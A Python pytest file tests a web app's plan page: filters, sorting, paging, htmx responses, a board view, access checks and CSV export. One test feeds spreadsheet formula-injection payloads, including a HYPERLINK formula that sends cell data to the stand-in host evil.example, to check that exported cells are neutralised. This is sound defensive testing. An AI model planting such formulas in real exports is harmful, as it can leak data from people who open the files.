"""The plan page: the initiatives table with filters, sorting, paging and CSV export."""

from __future__ import annotations

import csv
import html as markup
import io
import re

import pytest

from schema.core.ids import to_global_id
from server.demo import content
from tests.support.demo import STRATEGIC

SECURITY = to_global_id(
    "Plan", next(i for i, p in enumerate(content.PLANS, 1) if p[0] == "security")
)


def titles(html: str) -> list[str]:
    # Each row's title cell, after the bulk change's tick box when the viewer has one.
    rows = re.findall(
        r'<tr>\s*(?:<td><input[^>]*><input[^>]*></td>\s*)?<td><a href="/initiatives/[^"]+">'
        r"([^<]*)</a></td>",
        html,
    )
    return [title.replace("&amp;", "&") for title in rows]


def strategic_titles(status: str | None = None) -> list[str]:
    return [
        s[1]
        for s in content.INITIATIVES
        if s[0] == "strategic" and (status is None or s[3] == status)
    ]


def test_the_plan_page_lists_its_initiatives(signed_in):
    page = signed_in("nora").get(f"/plans/{STRATEGIC}")
    assert page.status_code == 200
    assert "Strategic plan 2026-2028" in page.text
    assert titles(page.text) == strategic_titles()
    assert f"{len(strategic_titles())} initiatives match." in page.text


def test_filters_work_as_a_plain_get_form_and_unknown_values_are_ignored(signed_in):
    client = signed_in("nora")
    page = client.get(f"/plans/{STRATEGIC}?status=IN_PROGRESS&status=NONSENSE&sort=bogus")
    assert titles(page.text) == strategic_titles("in_progress")
    assert 'value="IN_PROGRESS" checked' in page.text


def test_sorting_by_title_descending(signed_in):
    page = signed_in("nora").get(f"/plans/{STRATEGIC}?sort=title&dir=desc")
    assert titles(page.text) == sorted(strategic_titles(), reverse=True)


def test_paging_walks_the_whole_list_once(signed_in, api):
    for n in range(5):  # thirteen strategic initiatives: two pages of ten
        api.mutate(
            "ada",
            f'mutation {{ proposeInitiative(input: {{planId: "{STRATEGIC}", title: "Idea {n}"}}) '
            "{ errors { code } } }",
        )
    client = signed_in("ada")
    seen, url, pages = [], f"/plans/{STRATEGIC}?per=10&sort=title", 0
    while url:
        page = client.get(url)
        pages += 1
        seen += titles(page.text)
        found = re.search(r'href="([^"]+)" rel="next"', page.text)
        url = found.group(1).replace("&amp;", "&") if found else None
    assert pages == 2
    assert seen == sorted(strategic_titles() + [f"Idea {n}" for n in range(5)])


def test_htmx_requests_get_only_the_results_block(signed_in):
    page = signed_in("nora").get(
        f"/plans/{STRATEGIC}?status=PROPOSED", headers={"HX-Request": "true"}
    )
    assert page.status_code == 200
    assert "<html" not in page.text and 'id="results"' in page.text
    assert "HX-Request" in page.headers["vary"]
    assert titles(page.text) == strategic_titles("proposed")


def test_csv_export_holds_exactly_what_the_filters_show(signed_in):
    client = signed_in("nora")
    query = "status=IN_PROGRESS&status=FUNDED&sort=title"
    table = titles(client.get(f"/plans/{STRATEGIC}?{query}").text)
    exported = client.get(f"/plans/{STRATEGIC}?{query}&format=csv")
    assert exported.headers["content-type"].startswith("text/csv")
    assert 'filename="strategic-plan-2026-2028.csv"' in exported.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [row["Title"] for row in rows] == table
    assert {row["Status"] for row in rows} <= {"In progress", "Funded"}


def test_a_hidden_plan_is_not_found_and_a_stale_cursor_is_a_plain_400(signed_in):
    client = signed_in("nora")
    hidden = client.get(f"/plans/{SECURITY}", headers={"accept": "text/html"})
    assert hidden.status_code == 404 and "Page not found" in hidden.text
    bad = client.get(f"/plans/{STRATEGIC}?after=garbage", headers={"accept": "text/html"})
    assert bad.status_code == 400
    assert "is not a cursor from this list" in bad.text and "Traceback" not in bad.text
    assert client.get("/plans/not-an-id", headers={"accept": "text/html"}).status_code == 404


@pytest.mark.parametrize("key", ["omar", "margaret"])
def test_those_cleared_see_the_security_plan(signed_in, key):
    assert signed_in(key).get(f"/plans/{SECURITY}").status_code == 200


def test_strangers_are_sent_to_sign_in(demo_client):
    response = demo_client.get(f"/plans/{STRATEGIC}")
    assert response.status_code == 303 and response.headers["location"].startswith("/sign-in")


def board_columns(html: str) -> dict[str, list[str]]:
    """Each board column's state label and the card titles in it."""
    columns = {}
    for chunk in html.split('<section class="board-column"')[1:]:
        state = re.search(r'class="badge status-[a-z_]+">([^<]+)</span>', chunk).group(1)
        columns[state] = [
            t.replace("&amp;", "&")
            for t in re.findall(
                r'<a href="/initiatives/[^"]+" class="board-title">([^<]*)</a>', chunk
            )
        ]
    return columns


def test_the_board_shows_the_filtered_initiatives_in_columns_by_state(signed_in):
    page = signed_in("nora").get(f"/plans/{STRATEGIC}?view=board")
    assert page.status_code == 200
    columns = board_columns(page.text)
    assert list(columns)[:3] == ["Proposed", "Approved", "Rejected"]
    assert sorted(t for titles in columns.values() for t in titles) == sorted(strategic_titles())
    assert columns["In progress"] == strategic_titles("in_progress")
    assert 'id="view-board" ' in page.text and 'aria-current="page">Board</a>' in page.text


def test_the_board_keeps_the_filters_and_the_switch_keeps_them_too(signed_in):
    client = signed_in("nora")
    page = client.get(f"/plans/{STRATEGIC}?status=PROPOSED&status=IN_PROGRESS&view=board")
    columns = board_columns(page.text)
    assert list(columns) == ["Proposed", "In progress"]
    assert '<input type="hidden" name="view" value="board">' in page.text
    table_link = re.search(r'id="view-table" href="([^"]+)"', page.text).group(1)
    assert "status=PROPOSED&amp;status=IN_PROGRESS" in table_link and "view=" not in table_link
    table = client.get(table_link.replace("&amp;", "&"))
    assert sorted(titles(table.text)) == sorted(
        strategic_titles("proposed") + strategic_titles("in_progress")
    )
    board_link = re.search(r'id="view-board" href="([^"]+)"', table.text).group(1)
    assert "view=board" in board_link and "status=PROPOSED" in board_link


def test_the_switch_swaps_filters_and_results_in_place_for_htmx(signed_in):
    page = signed_in("nora").get(
        f"/plans/{STRATEGIC}?view=board",
        headers={"HX-Request": "true", "HX-Target": "plan-view"},
    )
    assert "<html" not in page.text
    assert page.text.lstrip().startswith('<div id="plan-view">')
    assert 'class="board-column"' in page.text and 'class="filters"' in page.text


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]


def test_csv_export_writes_formula_like_titles_as_plain_text(signed_in, api):
    for title in FORMULAS:
        result = api.mutate(
            "ada",
            "mutation($plan: ID!, $title: String!) { proposeInitiative(input: "
            "{planId: $plan, title: $title}) { errors { code } } }",
            {"plan": STRATEGIC, "title": title},
        )
        assert result["errors"] == []
    exported = signed_in("ada").get(f"/plans/{STRATEGIC}?format=csv&status=PROPOSED&per=100")
    titles_written = {row["Title"] for row in csv.DictReader(io.StringIO(exported.text))}
    assert {"'" + title for title in FORMULAS if not title.startswith("\t")} <= titles_written
    assert not any(title.startswith(("=", "+", "-", "@", "\t")) for title in titles_written)


def test_safe_cell_keeps_numbers_and_plain_text():
    from decimal import Decimal

    from server.web.core.exports import safe_cell

    assert safe_cell("-12.50") == "-12.50"
    assert safe_cell(Decimal("-3")) == Decimal("-3")
    assert safe_cell(7) == 7
    assert safe_cell("Plain title") == "Plain title"
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("\r=1") == "'\r=1"
    assert safe_cell(None) is None


def test_clicking_a_column_heading_sorts_by_it_and_again_the_other_way(signed_in):
    client = signed_in("margaret")
    page = client.get(f"/plans/{STRATEGIC}", headers={"accept": "text/html"}).text
    assert '<th scope="col" aria-sort="none"><a class="sort-link"' in page
    link = markup.unescape(re.search(r'<a class="sort-link" href="([^"]+)">Title', page).group(1))
    ascending = client.get(link).text
    assert 'aria-sort="ascending"><a class="sort-link"' in ascending
    assert titles(ascending) == sorted(titles(ascending), key=str.lower)
    again = markup.unescape(
        re.search(r'<a class="sort-link" href="([^"]+)">Title', ascending).group(1)
    )
    assert "dir=desc" in again
    descending = client.get(again).text
    assert 'aria-sort="descending"' in descending
    assert titles(descending) == list(reversed(titles(ascending)))
